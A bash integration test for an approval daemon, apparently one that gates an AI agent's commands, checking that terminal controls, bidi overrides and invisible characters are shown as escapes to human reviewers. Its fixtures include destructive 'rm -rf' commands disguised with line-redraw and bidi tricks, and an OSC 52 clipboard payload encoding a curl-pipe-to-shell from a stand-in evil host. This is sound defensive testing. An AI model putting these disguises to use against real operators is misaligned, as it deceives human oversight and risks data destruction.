#!/bin/bash
# The operator's screen cannot be made to lie: commands, reasons, output and
# history that carry terminal controls (CR, erase-line, OSC 52 clipboard and
# OSC 0 title sequences), bidi overrides or invisible characters are shown
# with those characters as escapes in every human view, the webhooks' text
# included; --json keeps the exact data.  Also: every CLI write says which
# database user it acts as; webhook URLs never reach the log whole.
# A real airlockd on the rig, a throwaway database.
set -uo pipefail
export LC_ALL=C.UTF-8
cd "$(dirname "$0")/../.."
if [ -z "${AIRLOCK_RIG_SSH_PORT:-}" ]; then
	exec scripts/pgtmp --quiet -- tests/rig/rigctl run -- "$0" "$@"
fi
. tests/lib.sh
. tests/daemon/lib.sh

setup_db || { echo "set-up failed"; exit 1; }
mkdir -p "$WORK/hooks"
python3 tests/daemon/webhook_sink.py "$WORK/hook.port" "$WORK/hooks" &
DAEMON_PIDS+=($!)
for _ in $(seq 1 50); do [ -s "$WORK/hook.port" ] && break; sleep 0.1; done
HP=$(cat "$WORK/hook.port")
write_config d1 "webhooks:" "  - url: http://ops:hook-pw-1@127.0.0.1:$HP/ops?token=sekrit-1" \
	"  - url: http://u:hook-pw-2@127.0.0.1:1/down/topic-sekrit-2?k=sekrit-3" \
	"    timeout_ms: 500" >/dev/null
start_daemon d1 || { echo "airlockd did not start"; cat "$WORK/d1.log"; exit 1; }

# no_controls FILE: the file is valid UTF-8 and holds no character a terminal acts on
# or that hides: by Python's own Unicode tables, no control but newline (Cc), no format
# character (Cf: bidi, zero-width, tags), no private use (Co), no separator but the
# plain space (Zs, Zl, Zp), no generic combining mark; nor the invisible fillers.
no_controls() {
	python3 - "$1" <<'EOF'
import sys, unicodedata
data = open(sys.argv[1], "rb").read()
text = data.decode("utf-8")  # invalid UTF-8 would raise
fillers = {0x115f, 0x1160, 0x3164, 0xffa0, 0x2800, 0x17b4, 0x17b5}
combining = [(0x300, 0x36f), (0x1ab0, 0x1aff), (0x1dc0, 0x1dff), (0x20d0, 0x20ff), (0xfe00, 0xfe0f), (0xfe20, 0xfe2f)]
def bad(c):
    cp, cat = ord(c), unicodedata.category(c)
    if c == "\n":
        return False
    return (cat in ("Cc", "Cf", "Co", "Cs", "Zl", "Zp") or (cat == "Zs" and c != " ")
            or cp in fillers or any(a <= cp <= b for a, b in combining))
found = [hex(ord(c)) for c in text if bad(c)]
if found:
    print("hidden characters reached the screen:", found[:12])
    sys.exit(1)
EOF
}
# shows FILE TEXT: FILE contains TEXT literally.
shows() { grep -qF -- "$2" "$1" || { echo "wanted '$2' in:"; cat -v "$1"; return 1; }; }

# ---- a command that redraws its own line: CR, erase-line, cursor-up
fake=$'rm -rf /var/lib/vz/images #\r\e[2K\e[1Als -l /var/lib/vz'
id=$(as_agent $A run --target proxmox-host:hubris -- "$fake" 2>/dev/null)
check "the disguised command is held" wait_for 30 "SELECT state = 'pending_approval' FROM airlock.executions WHERE id = $id"
as_alice $A pending >"$WORK/pending.out" 2>&1
check "pending: no terminal control reaches the screen" no_controls "$WORK/pending.out"
check "pending: the command is shown whole, its controls as escapes" \
	shows "$WORK/pending.out" '$ rm -rf /var/lib/vz/images #\r\x1b[2K\x1b[1Als -l /var/lib/vz'
check "pending: the operator is told the command hides characters" \
	shows "$WORK/pending.out" '! the command holds 3 hidden or control characters'
as_alice $A show $id >"$WORK/show.out" 2>&1
check "show: no terminal control reaches the screen" no_controls "$WORK/show.out"
check "show: the command with its controls as escapes" \
	shows "$WORK/show.out" 'command         rm -rf /var/lib/vz/images #\r\x1b[2K\x1b[1Als -l /var/lib/vz'
check "show: the reasons quote the words made visible too" no_controls "$WORK/show.out"
as_alice $A history $id >"$WORK/history.out" 2>&1
check "history: no terminal control reaches the screen" no_controls "$WORK/history.out"
check_eq "show --json keeps the exact command" "$fake" \
	"$(as_alice $A show --json $id | python3 -c 'import json,sys; sys.stdout.write(json.load(sys.stdin)["command"])')"
check_eq "pending --json keeps the exact command" "$fake" \
	"$(as_alice $A pending --json | python3 -c 'import json,sys; sys.stdout.write([r for r in json.load(sys.stdin) if r["id"] == '$id'][0]["command"])')"

# ---- the webhook's human text shows the escapes; its data fields stay exact
check "the operators' webhook is told" wait_hook 15 "\"execution_id\":$id," "ops?token=sekrit-1"
hook=$(grep -lF "\"execution_id\":$id," "$WORK"/hooks/ops*.json | head -1)
check "webhook text: controls shown as escapes" python3 -c '
import json, sys
m = json.load(open(sys.argv[1]))
assert m["command"] == sys.argv[2], m["command"]
t = m["text"]
assert all(ord(c) >= 0x20 and ord(c) != 0x7f for c in t), repr(t)
assert "#\\r\\x1b[2K\\x1b[1Als -l" in t, t
' "$hook" "$fake"
check "the log names webhooks without credentials, path or query" wait_log 30 'evt=webhook.failed hook=2 url=http://***@127.0.0.1:1/***?***' d1
check "the log names the delivered webhook by its host only" \
	grep -qF 'evt=webhook.sent hook=1 url=http://***@127.0.0.1:'"$HP"'/***?*** status=204' "$WORK/d1.log"
check_eq "no webhook secret in the log" 0 "$(grep -cE 'hook-pw|sekrit' "$WORK/d1.log")"

# ---- a right-to-left override and zero-width characters in a command
bidi=$'echo harmless \u202e; rm -rf /tmp/x \u2066#\u2069 \u200b\ufeff'
id2=$(as_agent $A run --target proxmox-host:hubris --change-id $'chg-\u202e1' --action $'tidy\r\e[2Kup' -- "$bidi" 2>/dev/null)
check "the bidi command is classified" wait_for 30 "SELECT state NOT IN ('received') FROM airlock.executions WHERE id = $id2"
as_alice $A show $id2 >"$WORK/show2.out" 2>&1
check "show: bidi and zero-width characters are escapes" no_controls "$WORK/show2.out"
check "show: the override is named where it stands" shows "$WORK/show2.out" 'echo harmless \u202e; rm -rf /tmp/x \u2066#\u2069 \u200b\ufeff'
check "show: change id and action made visible too" shows "$WORK/show2.out" 'chg-\u202e1'
check "show: the action's controls are escapes" shows "$WORK/show2.out" 'tidy\r\x1b[2Kup'

# ---- a command whose output sets the clipboard (OSC 52) and the window title (OSC 0)
osc='printf '"'"'\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\007\033]0;pwned\007all good\033[8m hidden\033[0m\r\n\302\233\061m'"'"''
id3=$(as_agent $A run --target proxmox-host:hubris -- "$osc" 2>/dev/null)
check "the printing command finishes" wait_for 30 "SELECT state IN ('succeeded', 'failed') FROM airlock.executions WHERE id = $id3"
check_eq "its output holds the sequences (the test's precondition)" t \
	"$(q "SELECT position('\\x1b5d35323b'::bytea in stdout) > 0 AND position('\\x1b5d303b'::bytea in stdout) > 0 FROM airlock.executions WHERE id = $id3")"
as_alice $A show $id3 >"$WORK/show3.out" 2>&1
check "show: OSC 52 and OSC 0 in stdout do not reach the terminal" no_controls "$WORK/show3.out"
check "show: the clipboard sequence is visible" shows "$WORK/show3.out" '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07'
check "show: the title sequence and the C1 CSI are visible" shows "$WORK/show3.out" '\x1b]0;pwned\x07all good\x1b[8m hidden\x1b[0m\r'
check "show: the note says output hid characters" shows "$WORK/show3.out" '! stdout holds'
check_out "show --json keeps the exact output" '"stdout": ".u001b\]52;c;' as_alice $A show --json $id3

# ---- generated: commands and outputs built from every category of hidden character
# (C0 and C1 controls, CSI/OSC/DCS sequences, CR tricks, bidi controls, format characters
# of other scripts, zero-width and invisible characters, odd spaces, combining marks,
# tags, private use; invalid UTF-8 in output), each checked in pending, show and history,
# and exact in --json.
python3 - "$WORK/gen" <<'PY'
import random, sys
rng = random.Random(27)
cats = {
    "c0": ["\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1a", "\x7f", "\r"],
    "csi": ["\x1b[2K", "\x1b[1A", "\x1b[8m", "\x1b[0m", "\x1b[H\x1b[J", "\x1b[31;1m", "\x1b[?1049h"],
    "osc": ["\x1b]0;owned\x07", "\x1b]52;c;Y3VybCB4IHwgc2g=\x07", "\x1b]8;;http://evil/\x1b\\", "\x1bP+q\x1b\\"],
    "c1": ["\u0085", "\u009b", "\u009d", "\u0090"],
    "bidi": ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"],
    "invisible": ["\u0600", "\u06dd", "\U00013430", "\u200b", "\u200c", "\u200d", "\u2060", "\u2062", "\ufeff", "\u00ad",
                  "\u034f", "\u180e", "\u3164", "\u115f", "\u2800"],
    "space": ["\u00a0", "\u2002", "\u2007", "\u202f", "\u205f", "\u3000", "\u2028", "\u2029", "\u1680"],
    "mark": ["\u0301", "\u0336", "\u20d2", "\ufe0f", "\U000e0041", "\ue000", "\U000f0001"],
}
names = list(cats)
with open(sys.argv[1] + ".cmds", "w", encoding="utf-8") as f:
    for i in range(32):
        parts = ["rm -rf /srv/gen-%d" % i]
        for k in range(rng.randrange(1, 5)):
            parts.append(rng.choice(cats[names[i % len(names)] if k == 0 else rng.choice(names)]))
            parts.append(rng.choice(["ls -l", " ", "echo ok", "#", "; true", "x"]))
        f.write("".join(parts) + "\0")
# outputs: printf with octal escapes, so any byte (invalid UTF-8 included) can come back
with open(sys.argv[1] + ".outs", "w") as f:
    for i in range(8):
        raw = ("gen-out-%d " % i).encode()
        for _ in range(6):
            name = rng.choice(names + ["bytes"])
            raw += bytes([rng.choice([0x80, 0x9b, 0xc0, 0xff, 0xed, 0xe2])]) if name == "bytes" else rng.choice(cats[name]).encode("utf-8")
            raw += b" ok "
        f.write("printf '%s'\0" % "".join("\\%03o" % b for b in raw + b"\n"))
PY
gen_ids=()
while IFS= read -r -d '' cmd; do
	gen_ids+=("$(as_agent $A run --target proxmox-host:hubris -- "$cmd" 2>/dev/null)")
done <"$WORK/gen.cmds"
check_eq "generated: 32 disguised commands were accepted" 32 "${#gen_ids[@]}"
check "generated: they are held" wait_for 60 "SELECT count(*) = 32 FROM airlock.executions WHERE starts_with(command, 'rm -rf /srv/gen-') AND state = 'pending_approval'"
gen_view() { # every human view of every generated row, into one file
	as_alice $A pending
	for i in "${gen_ids[@]}"; do as_alice $A show "$i"; as_alice $A history "$i"; done
}
gen_view >"$WORK/gen.view" 2>&1
check "generated: no hidden character reaches the screen in pending, show or history" no_controls "$WORK/gen.view"
gen_exact() {
	local i=0 got
	while IFS= read -r -d '' cmd; do
		got=$(as_alice $A show --json "${gen_ids[$i]}" | python3 -c 'import json,sys; sys.stdout.write(json.load(sys.stdin)["command"])')
		[ "$got" = "$cmd" ] || { echo "row ${gen_ids[$i]}: --json lost data"; return 1; }
		i=$((i + 1))
	done <"$WORK/gen.cmds"
}
check "generated: --json keeps every command exactly" gen_exact
out_ids=()
while IFS= read -r -d '' cmd; do
	out_ids+=("$(as_agent $A run --target proxmox-host:hubris -- "$cmd" 2>/dev/null)")
done <"$WORK/gen.outs"
GENOUT="starts_with(command, 'printf ''\\147\\145\\156')"
check "generated: the printing commands finish" wait_for 60 "SELECT count(*) = 8 FROM airlock.executions WHERE $GENOUT AND state = 'succeeded'"
check_eq "generated: every output holds bytes a terminal would act on or hide (precondition)" 8 \
	"$(q "SELECT encode(stdout, 'hex') FROM airlock.executions WHERE $GENOUT" |
		python3 -c 'import sys; print(sum(any(b < 0x20 and b != 10 or b >= 0x7f for b in bytes.fromhex(l.strip())) for l in sys.stdin))')"
for i in "${out_ids[@]}"; do as_alice $A show "$i"; done >"$WORK/gen-out.view" 2>&1
check "generated: no hidden character of any output reaches the screen" no_controls "$WORK/gen-out.view"

# ---- every write says who it acts as
check_out "approve says which database user it acts as" 'acting as database user "alice" \(login from the PG\* environment\)' \
	as_alice $A approve $id --reason "looked at it"
check_out "an exported AIRLOCK_DB wins over PGUSER, and the CLI says so" \
	'acting as database user "hermes" \(login from AIRLOCK_DB; PGUSER=bob is not used\)' \
	env AIRLOCK_DB="host=$PGHOST port=$PGPORT dbname=$PGDATABASE user=hermes" PGUSER=bob $A cancel $id2
check_out "run says it too" 'acting as database user "hermes"' as_agent $A run --target proxmox-host:hubris -- true
check_out "--db is named as the source" 'acting as database user "bob" \(login from --db; PGUSER=alice is not used\)' \
	as_alice $A reject --db "user=bob" --reason no $id2
check_out "seed says it" 'acting as database user "postgres"' $A seed "$WORK/seeds"

finish
